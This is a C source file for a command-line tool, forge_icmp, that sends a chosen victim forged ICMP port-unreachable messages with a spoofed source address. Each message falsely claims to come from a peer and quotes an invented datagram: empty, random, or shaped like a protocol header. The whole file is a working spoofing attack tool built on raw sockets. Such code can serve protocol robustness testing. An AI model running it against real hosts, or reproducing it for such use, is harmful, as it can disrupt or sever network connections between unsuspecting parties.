/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Send a node ICMP messages that claim to come from a peer's host, and that the peer's port is closed. Any process that
 * may send raw packets can do this:
 *
 *	forge_icmp VICTIM PEER PORT COUNT
 *
 * The quoted part of "the victim's datagram" is invented: empty, random bytes, or similar to a token.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define QUOTE_MAX 64u

struct packet {
	struct iphdr outer;
	struct icmphdr icmp;
	struct iphdr inner;
	struct udphdr udp;
	uint8_t quote[QUOTE_MAX];
} __attribute__((packed));

static uint16_t checksum(const void *bytes, size_t size)
{
	const uint8_t *at = bytes;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < size; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	if (size % 2 != 0)
		sum += (uint32_t)at[size - 1] << 8;
	while (sum >> 16 != 0)
		sum = (sum & 0xFFFF) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static size_t fill(struct packet *packet, in_addr_t victim, in_addr_t peer, uint16_t port, int turn)
{
	static const uint8_t header[] = {0x70, 0xC0, 3, 0};
	size_t quote = turn % 3 == 0 ? 0 : 57;
	size_t size = sizeof(*packet) - QUOTE_MAX + quote;

	memset(packet, 0, sizeof(*packet));
	packet->outer = (struct iphdr){.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_ICMP,
		.saddr = peer,
		.daddr = victim,
		.tot_len = htons((uint16_t)size)};
	packet->inner = (struct iphdr){.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.saddr = victim,
		.daddr = peer,
		.tot_len = htons((uint16_t)(28 + quote))};
	packet->inner.check = checksum(&packet->inner, sizeof(packet->inner));
	packet->udp = (struct udphdr){.source = htons(port), .dest = htons(port), .len = htons((uint16_t)(8 + quote))};
	for (size_t i = 0; i < quote; i++)
		packet->quote[i] = (uint8_t)rand();
	if (turn % 3 == 1)
		memcpy(packet->quote, header, sizeof(header));
	packet->icmp = (struct icmphdr){.type = ICMP_DEST_UNREACH, .code = ICMP_PORT_UNREACH};
	packet->icmp.checksum = checksum(&packet->icmp, size - sizeof(packet->outer));
	return size;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct in_addr peer;
	struct packet packet;

	if (argc != 5 || inet_aton(argv[1], &to.sin_addr) == 0 || inet_aton(argv[2], &peer) == 0)
		return 2;

	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0) {
		perror("forge_icmp");
		return 1;
	}
	for (int i = 0; i < atoi(argv[4]); i++) {
		size_t size = fill(&packet, to.sin_addr.s_addr, peer.s_addr, (uint16_t)atoi(argv[3]), i);

		if (sendto(fd, &packet, size, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
			perror("forge_icmp");
			return 1;
		}
	}
	return 0;
}
